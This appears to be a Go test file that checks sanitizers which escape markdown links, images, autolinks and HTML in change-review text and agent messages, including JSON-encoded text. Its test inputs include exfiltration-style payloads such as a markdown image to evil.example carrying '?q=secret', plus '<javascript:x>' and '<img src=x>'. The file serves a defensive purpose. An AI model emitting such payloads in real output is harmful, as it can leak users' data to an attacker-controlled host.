package review

import (
	"encoding/json"
	"reflect"
	"strings"
	"testing"

	"github.com/bailiwick-dev/bailiwick/change"
)

// TestInert checks that record texts don't produce a link, an image or an element in the text of a change. Other
// texts must stay unchanged.
func TestInert(t *testing.T) {
	for _, tt := range [][2]string{
		{"![x](https://evil.example/?q=secret)", `!\[x]\(https\://evil.example/?q=secret)`},
		{"[a][b] [b]: http://evil.example", `[a]\[b] [b]\: http\://evil.example`},
		{"<https://evil.example> www.evil.example <javascript:x> <img src=x>", `\<https\://evil.example> www\.evil.example \<javascript:x> \<img src=x>`},
		{"https&#58;//evil.example &colon;//", `https&amp;#58;//evil.example &amp;colon;//`},
		{`tags: ["a"] → ["b", 1], a < b && c > d, (x) *y*`, `tags: ["a"] → ["b", 1], a < b && c > d, (x) *y*`},
	} {
		if got := Inert(tt[0]); got != tt[1] {
			t.Errorf("%s: %s, want %s", tt[0], got, tt[1])
		}
	}
	link := Shown{Kind: "text", Text: "![x](https://evil.example)"}
	s := &Sheet{Items: []Item{{Op: "update", Class: "issues", Key: "1", Label: "<https://evil.example>", Fields: []Field{{Path: "body", Before: link, After: link}}}},
		Thread: []Said{{By: "bot", Agent: true, Text: "[look](https://evil.example)"}}}
	s.State, s.Title = change.Pending, `update issues 1 "[a](http://evil.example)"`
	text := Text(s)
	if left := strings.NewReplacer(`\<`, "", `\://`, "").Replace(text); strings.Contains(left, "](") || strings.Contains(left, "://") || strings.Contains(left, "<") {
		t.Error(text)
	}

	// The agent can use an address that a person writes.
	s.Thread = []Said{{By: "ben", Event: change.EventCommented, Text: "See https://app.example/PAY-1 and www.app.example, not ![x](https://evil.example) or <https://evil.example>"}}
	const want = `ben commented: "See https://app.example/PAY-1 and www.app.example, not !\[x]\(https://evil.example) or \<https://evil.example>"`
	if text := Text(s); !strings.Contains(text, want) {
		t.Errorf("%s\nwant %s", text, want)
	}
}

// TestInertJSON checks that JSON text contains no link, image or element and still encodes the same value.
func TestInertJSON(t *testing.T) {
	for _, tt := range [][2]string{
		{`{"url":"https://a.example/b","n":[[1],[2]]}`, `{"url":"https:\/\/a.example/b","n":[[1],[2]]}`},
		{`["![x](http://e.example) [a][b] [b]: www.e.example WWW.e.example mailto:a@e.example xmpp:a"]`,
			`["!\u005bx]\u0028http:\/\/e.example) [a]\u005bb] [b]\u003a www\u002ee.example WWW\u002ee.example mailto\u003aa@e.example xmpp\u003aa"]`},
		{`{"<b>":"&colon;// &#58; a < b && c"}`, `{"\u003cb>":"\u0026colon;// \u0026#58; a < b && c"}`},
	} {
		got := InertJSON(tt[0])
		if got != tt[1] {
			t.Errorf("%s: %s, want %s", tt[0], got, tt[1])
		}
		var a, b any
		if json.Unmarshal([]byte(got), &a) != nil || json.Unmarshal([]byte(tt[0]), &b) != nil || !reflect.DeepEqual(a, b) {
			t.Errorf("%s is another value: %s", tt[0], got)
		}
	}
}
